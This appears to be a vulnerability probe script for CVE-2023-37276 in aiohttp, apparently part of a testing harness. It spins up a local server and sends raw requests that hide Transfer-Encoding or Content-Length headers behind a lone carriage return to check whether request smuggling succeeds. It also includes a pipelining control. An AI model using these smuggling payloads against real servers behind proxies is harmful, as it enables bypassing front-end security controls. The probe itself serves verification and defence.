# /// vertice-probe
# id = "PYSEC-2023-120"
# aliases = ["CVE-2023-37276", "GHSA-45c4-8wx5-qw6w"]
# package = "aiohttp"
# summary = """\
#   The bundled HTTP parser ends a header at a lone carriage return, so a client can hide headers from a proxy in \
#   front of an aiohttp server and split its requests."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:H/A:N" }]
# cwe = ["CWE-444"]
# kind = "request-smuggling"
# symbols = ["aiohttp.web.Application", "aiohttp.web.run_app", "aiohttp.web.AppRunner", "aiohttp.web.Server"]
#
# [[affected]]
# package = "aiohttp"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "3.8.5" }] }]
#
# [cases]
# attack = "a Transfer-Encoding header hidden behind a lone CR reaches the application"
# [cases.variants]
# swallow = "a Content-Length hidden behind a lone CR makes the server take the next request for a body"
# [cases.controls]
# pipeline = "two ordinary requests on one connection are answered one by one"
#
# [test]
# vulnerable = "3.8.4"
# fixed = "3.8.5"
# python = "<3.12"
# ///
"""CVE-2023-37276: a lone carriage return hides a header from a proxy but not from aiohttp."""

import asyncio
import json
import sys


async def serve(raw):
    """Send the bytes to an aiohttp server; give what its handler saw and the answer's bytes."""
    from aiohttp import web

    seen = []

    async def handler(request):
        body = await request.read()
        seen.append((request.method, request.path, dict(request.headers), body))
        return web.Response(text="ok")

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", handler)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    reader, writer = await asyncio.open_connection("127.0.0.1", runner.addresses[0][1])
    writer.write(raw)
    await writer.drain()
    answer = await asyncio.wait_for(reader.read(), 10)
    writer.close()
    await runner.cleanup()
    return seen, answer


PLAIN = b"GET /plain HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n"


def send(raw):
    seen, answer = asyncio.run(serve(PLAIN))
    if [path for _, path, _, _ in seen] != ["/plain"] or not answer.startswith(b"HTTP/1.1 200"):
        raise RuntimeError("the server does not answer an ordinary request: %r" % answer[:80])
    return asyncio.run(serve(raw))


def verdict(smuggled, seen, answer, success):
    if smuggled:
        return "exploited", success
    if not seen and answer.startswith(b"HTTP/1.") and b" 400 " in answer[:16]:
        return "blocked", "the server refuses the request with 400 Bad Request"
    raise RuntimeError("neither smuggled nor refused: %r %r" % (seen, answer[:80]))


def attack():
    seen, answer = send(
        b"GET /outer HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n"
        b"X-Note: \rxTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    )
    hidden = [headers.get("Transfer-Encoding") for _, _, headers, _ in seen]
    return verdict(hidden == ["chunked"], seen, answer, "the application sees Transfer-Encoding: chunked")


def swallow():
    second = b"GET /second HTTP/1.1\r\nHost: shop\r\n\r\n"
    length = str(len(second)).encode()
    seen, answer = send(
        b"GET /first HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n"
        b"X-Note: \rxContent-Length: " + length + b"\r\n\r\n" + second
    )
    bodies = [body for _, _, _, body in seen]
    return verdict(bodies == [second], seen, answer, "the second request was taken for the first one's body")


def pipeline():
    seen, answer = asyncio.run(
        serve(
            b"POST /first HTTP/1.1\r\nHost: shop\r\nContent-Length: 5\r\n\r\nhello"
            b"GET /second HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n"
        )
    )
    got = [(path, body) for _, path, _, body in seen]
    if got == [("/first", b"hello"), ("/second", b"")] and answer.count(b"HTTP/1.1 200 OK") == 2:
        return "works", "both requests were answered with 200"
    return "broken", "seen %r, answered %r" % (got, answer[:120])


CASES = {"attack": attack, "swallow": swallow, "pipeline": pipeline}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
